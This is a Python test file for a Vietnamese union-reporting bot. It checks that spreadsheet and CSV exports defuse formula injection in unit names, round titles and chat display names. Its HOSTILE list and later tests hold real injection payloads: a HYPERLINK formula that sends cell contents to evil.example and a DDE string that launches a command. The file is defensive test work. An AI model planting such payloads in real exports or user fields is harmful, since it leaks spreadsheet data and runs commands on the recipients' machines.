"""No export carries a live formula: hostile unit names, round titles, display names (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import openpyxl
from sqlmodel import Session, select

from bot.db import session_scope
from bot.i18n import use_language
from bot.models import Indicator, Round, Submission, SubmissionValue, Unit
from bot.services import cells, export_xlsx
from rollup_world import sqlite_world, unit_id, world_template  # noqa: F401  (fixtures)

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def formulas(wb: openpyxl.Workbook) -> list[str]:
    return [f"{ws.title}!{c.coordinate}={c.value!r}" for ws in wb for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def texts(wb: openpyxl.Workbook) -> dict[str, openpyxl.cell.Cell]:
    return {c.value: c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


def test_helper_prefixes_only_risky_text():
    assert cells.csv_row(["=1", "+1", "-1", "@x", "\tx", "\rx", "Tổ 1", -5, 3.5, None, ""]) == \
        ["'=1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "Tổ 1", -5, 3.5, None, ""]


def test_round_workbook_writes_hostile_names_as_text_and_numbers_as_numbers(sqlite_world):
    with session_scope(sqlite_world) as s:
        for code, name in zip(["A", "B", "C", "D", "U1", "U2"], HOSTILE):
            s.exec(select(Unit).where(Unit.code == code)).one().name = name
        rnd = s.exec(select(Round).where(Round.code == "R2")).one()
        rnd.title = "=1+2 Đợt 2"
        # a negative figure (e.g. a correction) must stay a number
        new = s.exec(select(Indicator).where(Indicator.code == "NEW")).one()
        sub = s.exec(select(Submission).where(Submission.round_id == rnd.id,
                                              Submission.unit_id == unit_id(s, "D"))).one()
        s.exec(select(SubmissionValue).where(SubmissionValue.submission_id == sub.id,
                                             SubmissionValue.indicator_id == new.id)).one().value = -4
    with Session(sqlite_world) as s, use_language("vi"):
        rnd = s.exec(select(Round).where(Round.code == "R2")).one()
        data = export_xlsx.build_workbook(s, rnd, unit_id(s, "PROV"))
    wb = openpyxl.load_workbook(io.BytesIO(data))
    assert formulas(wb) == []
    found = texts(wb)
    for name in HOSTILE:
        name = name.replace("\r", "\n")  # XML reads a carriage return back as a line feed
        assert name in found and found[name].data_type == "s" and found[name].quotePrefix, name
    title = wb["Tổng hợp"]["A1"]
    assert title.value.startswith("=1+2 Đợt 2") and title.data_type == "s" and title.quotePrefix
    negative = [c for row in wb["NEW"].iter_rows(min_row=3) for c in row if c.value == -4]
    assert negative and all(c.data_type == "n" and not c.quotePrefix for c in negative)


def test_invites_csv_prefixes_hostile_unit_names(demo_url, tmp_path, monkeypatch):
    """`congdoan invite --all` on the demo province (seeded from the demo template, run in-process)."""
    from bot.cli import main
    from bot.db import make_engine

    engine = make_engine(demo_url)
    with session_scope(engine) as s:
        units = s.exec(select(Unit).where(Unit.level == "grassroots", Unit.active == True)  # noqa: E712
                       .order_by(Unit.code).limit(len(HOSTILE))).all()
        for unit, name in zip(units, HOSTILE):
            unit.name = name
    engine.dispose()
    out = tmp_path / "invites.csv"
    monkeypatch.setenv("DATABASE_URL", demo_url)
    assert main(["invite", "--all", "--out", str(out)]) == 0
    rows = list(csv.DictReader(out.open(encoding="utf-8-sig", newline="")))
    names = {r["unit_name"] for r in rows}
    for name in HOSTILE:
        assert "'" + name in names and name not in names
    assert not [r for r in rows if any(cells.is_risky(v) for v in r.values())]


def test_notice_tracking_list_writes_a_hostile_display_name_as_text(engine, settings):
    from datetime import date, datetime

    from bot.clock import to_utc
    from bot.messages import Incoming
    from bot.models import Notice, Role
    from bot.services import notices, registry
    from dialog import CoreChat
    from handlers import router
    from worlds import small_province

    now = to_utc(datetime(2026, 12, 5, 9, 0))
    world = small_province(engine, opens=date(2026, 12, 1), deadline=date(2026, 12, 18), submitted_units=0)
    with session_scope(engine) as s:
        unit = s.exec(select(Unit).where(Unit.code == "G03")).one()
        code = registry.create_invite(s, unit, Role.CHAIR).code
        s.exec(select(Unit).where(Unit.code == "G04")).one().name = "@SUM(1+1) CĐCS"
        s.exec(select(Unit).where(Unit.code == "U1")).one().name = "+LĐLĐ huyện U1"
    hostile = '=HYPERLINK("http://evil.example/","Bấm vào")'
    joined = router.handle(engine, settings, Incoming(channel="telegram", user_id="777", chat_id="777",
                                                      text=f"/start {code}", display_name=hostile,
                                                      language_code="vi"), now=now)
    assert joined.replies
    staff = CoreChat(engine, settings, user_id=str(world["staff"]), channel="telegram", now=now)
    staff.send("/thongbao")
    staff.send("Họp ban chấp hành")
    staff.press("Tất cả Chủ tịch CĐCS")
    staff.press("Xem trước")
    staff.press("Gửi")
    with Session(engine) as s, use_language("vi"):
        notice = s.exec(select(Notice)).one()
        data = notices.export_xlsx(s, notice)
    wb = openpyxl.load_workbook(io.BytesIO(data))
    assert formulas(wb) == []
    found = texts(wb)
    for name in (hostile, "@SUM(1+1) CĐCS", "+LĐLĐ huyện U1"):
        assert name in found and found[name].data_type == "s" and found[name].quotePrefix, name
